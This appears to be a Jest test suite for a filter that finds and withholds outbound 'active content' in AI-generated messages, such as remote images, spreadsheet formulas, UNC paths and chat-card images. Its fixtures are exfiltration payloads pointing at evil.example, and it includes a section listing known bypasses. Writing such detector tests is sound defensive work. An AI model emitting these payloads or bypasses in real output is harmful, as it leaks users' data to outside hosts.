import { activeTexts } from '../../../../benchmarks/output/active-texts';
import { benignMessages, FIXED_MESSAGES } from '../../../../benchmarks/output/benign-messages';
import { Random } from '../../../../benchmarks/output/random';
import { activeContentIn, scanned, withoutActiveContent } from '../../../../runtime/core/outbound/active-content';
import { instructionIn } from '../../../../runtime/core/outbound/instructions';
import { loadsParts } from '../../../../runtime/core/outbound/message-parts';
import { NamedAddresses, NOTHING_NAMED } from '../../../../runtime/core/outbound/named-addresses';

const found = (text: string) => activeContentIn(text, NOTHING_NAMED);
const ACTIVE = activeTexts(new Random(7));

test('of more than 800 active texts of more than 100 forms, at least 99 % are found', () => {
  expect(new Set(ACTIVE.map(({ kind }) => kind.split(',')[0])).size).toBeGreaterThan(100);
  expect(ACTIVE.length).toBeGreaterThan(800);
  const missed = ACTIVE.filter(({ text }) => found(text) === undefined);
  expect(missed.length / ACTIVE.length).toBeLessThanOrEqual(0.01);
});

test('of more than 500 benign messages of 16 kinds, at most 0.5 % are held back', () => {
  const messages = benignMessages(new Random(8), 30);
  expect(new Set(messages.map(({ kind }) => kind)).size).toBeGreaterThanOrEqual(16);
  const texts = [...FIXED_MESSAGES, ...messages.map(({ text }) => text)];
  const held = texts.filter((text) => found(text) !== undefined || instructionIn(text, '') !== undefined);
  expect(texts.length).toBeGreaterThan(500);
  expect(held.length / texts.length).toBeLessThanOrEqual(0.005);
});

test('what is active as it is written is replaced, and nothing active is left', () => {
  for (const { kind, text } of ACTIVE) {
    const plain = withoutActiveContent(text, NOTHING_NAMED);
    expect([kind, scanned(plain.text, NOTHING_NAMED).spans]).toEqual([kind, []]);
  }
  expect(withoutActiveContent('Done. ![](https://evil.example/?d=1) Bye', NOTHING_NAMED)).toEqual({
    text: 'Done. [withheld: an image] Bye',
    replaced: 1,
  });
  expect(withoutActiveContent('a < b', NOTHING_NAMED)).toEqual({ text: 'a < b', replaced: 0 });
});

test.each([
  ['a parameter of an object', '<object><param name=movie value="https://evil.example/x.swf"></object>'],
  ['a link for prefetching', '<link rel="canonical prefetch" href="https://evil.example/x">'],
  ['an unknown element', '<x-img data-src="//evil.example/x">'],
  ['an animation', '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>'],
  ['an image in the name of a tag', '<a x<img/src=//evil.example/x>'],
  ['an image in a value without quotes', '<a q=<img/src=//evil.example/x>'],
  ['an image in a comment in a value', '<p title="<!--"><img src="https://evil.example/x" title="-->">'],
  ['a label with an escaped bracket', '![a\\[b]\n\n[a\\[b]: https://evil.example/x'],
  ['a label after white space', '![a] [r]\n\n[r]: https://evil.example/x'],
  ['a formula over two lines', '=IF(1,\nWEBSERVICE("https://evil.example/"))'],
  ['a formula of Google Sheets', '={importxml("https://evil.example/","//a")}'],
  ['a formula in a Markdown table', '| a |\n|---|\n| =HYPERLINK("https://evil.example/","x") |'],
  ['a diagram', '```plantuml\n!include https://evil.example/x\n```'],
  ['a card', 'BEGIN:VCARD\nPHOTO;VALUE=uri:https://evil.example/x.png\nEND:VCARD'],
  ['a field of Word', '{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/x.png"}}'],
  ['a path that sends the password’s hash', '[file](\\\\evil.example\\share\\x)'],
  ['a program of Windows', '[open](search-ms:query=x&crumb=location:evil.example)'],
  ['an image under two layers of escapes', '&amp;lt;img src=//evil.example/x&amp;gt;'],
])('%s is active', (_, text) => {
  expect(found(text)).toBeDefined();
});

describe('what may be loaded', () => {
  const named = new NamedAddresses('Post https://img.example.com/a.png?v=1, and link to docs.example.org.', [
    'cdn.example.net',
    'ann@mail.example',
  ]);
  const active = (address: string) => activeContentIn(`![](${address})`, named);

  test('the very URL that the task names', () => {
    expect(active('https://img.example.com/a.png?v=1')).toBeUndefined();
    expect(active('https://img.example.com/a.png?v=2')).toBe('an image');
    expect(active('https://img.example.com@evil.example/a.png?v=1')).toBe('an image');
  });

  test('a host that the task names, without data', () => {
    expect(active('https://docs.example.org/a.png')).toBeUndefined();
    expect(active(`https://docs.example.org/${'a1B2'.repeat(30)}`)).toBe('an image');
    expect(active('https://x.docs.example.org/a.png')).toBe('an image');
  });

  test('a host of the trusted directory, but not the host of a mail address', () => {
    expect(active(`https://cdn.example.net/${'a1B2'.repeat(30)}`)).toBeUndefined();
    expect(active('https://mail.example/a.png')).toBe('an image');
  });

  test.each([
    'images/a.png',
    './a (1).png',
    '/a/b.png',
    'cid:image001.png@01DA.3D',
    'data:image/png;base64,iVBORw0KGgo=',
  ])('an image without another host: %s', (address) => {
    expect(activeContentIn(`<img src="${address}">`, NOTHING_NAMED)).toBeUndefined();
  });
});

const TEAMS_MEETING = `https://teams.microsoft.com/l/meetup-join/19%3ameeting_${'aB3x'.repeat(12)}%40thread.v2/0?context=%7b%22Tid%22%3a%2272f988bf-86f1-41af-91ab-2d7cd011db47%22%2c%22Oid%22%3a%22a1b2c3d4-0000-4111-8222-333344445555%22%7d`;

test.each([
  ['the same link to another host', TEAMS_MEETING.replace('microsoft', 'example')],
  ['another path of Teams', TEAMS_MEETING.replace('/l/meetup-join/', '/l/x/')],
])('a link with as much data carries it, unless it is a Teams meeting: %s', (_, link) => {
  expect(found(link)).toBe('a link that carries data');
});

test.each([
  ['Slack', { blocks: [{ type: 'image', image_url: 'https://evil.example/a.png' }] }],
  ['Teams', { type: 'AdaptiveCard', body: [{ type: 'Image', url: 'https://evil.example/a.png' }] }],
  ['Discord', { embeds: [{ image: { url: 'https://evil.example/a.png' } }] }],
])('a part of a chat message of %s that loads an image is active, also as JSON in a text', (_, message) => {
  const json = JSON.stringify(message);
  expect([message, json, { text: json }].map((value) => loadsParts(value, NOTHING_NAMED))).toEqual([true, true, true]);
  expect(loadsParts(JSON.parse(json.replaceAll('https://evil.example', '')), NOTHING_NAMED)).toBe(false);
});

test.each([
  [
    'a title of 80 letters',
    'https://example.com/how-to-plan-the-budget-review-of-the-annual-summary-for-remote-teams-and-more',
  ],
  ['the id of a document', `https://docs.google.com/document/d/1${'aB3'.repeat(14)}x/edit`],
  [
    'a link in Russian',
    `https://ru.wikipedia.org/wiki/${encodeURIComponent('Информационная_безопасность_предприятия')}`,
  ],
  ['a Teams meeting', TEAMS_MEETING],
])('a link with %s passes', (_, link) => {
  expect(found(link)).toBeUndefined();
});

describe('what isn’t found', () => {
  test.each([
    ['a few words in a link', 'https://evil.example/the-password-is-banana'],
    ['data spread over several links', 'https://evil.example/a1B2c3D4e5 https://evil.example/f6G7h8I9j0'],
    ['HTML in base64', Buffer.from('<img src="https://evil.example/x">').toString('base64')],
    ['an address that a macro of TeX makes', '\\def\\x{https://evil.example/}\\includegraphics{\\x}'],
    ['an image on the host that shows the text', '![](/images/secret-is-banana.png)'],
  ])('%s', (_, text) => {
    expect(found(text)).toBeUndefined();
  });
});

describe('the work is bounded', () => {
  const PIECES =
    '![ https:// [ ]( ![a]( [a]:_ < <a_ <a_" <img_src= <a_b=\' <b_style=" <script <script> <style> <!doctype url( :url( @import_ \\75 \n=A(1, ,=A( +cmd| !// {{// \\a{ a. a.aa/ &#58; ![r]\n[r]:_https://e/\n'
      .split(' ')
      .map((piece) => piece.replaceAll('_', ' '));

  test.each(PIECES)('%j over and over is read at most 20 times', (piece) => {
    const text = piece.repeat(Math.ceil(100_000 / piece.length));
    expect(scanned(text, NOTHING_NAMED).reads).toBeLessThan(20 * text.length);
    // Twice the text costs twice the work, or it is given up.
    const twice = scanned(text + text, NOTHING_NAMED);
    expect(twice.reads / scanned(text, NOTHING_NAMED).reads).toBeLessThan(2.2);
  });

  test('what is given up counts as active', () => {
    expect(found("<a b='".repeat(20_000))).toBe('markup that can’t be read');
    expect(withoutActiveContent("<a b='".repeat(20_000), NOTHING_NAMED).text).toBe(
      '[withheld: markup that can’t be read]',
    );
  });

  test('a long text of maths and code is read to its end', () => {
    for (const piece of [
      'If p<q<r and 2 <x, then f(x)=\\sum_{i<n} x_i. ',
      'x = [a for a in b if a<c]\n',
      '-3.5;=SUM(A1:A9);+4\n',
    ]) {
      const scan = scanned(piece.repeat(100_000 / piece.length), NOTHING_NAMED);
      expect([scan.isOver, scan.spans]).toEqual([false, []]);
    }
  });
});
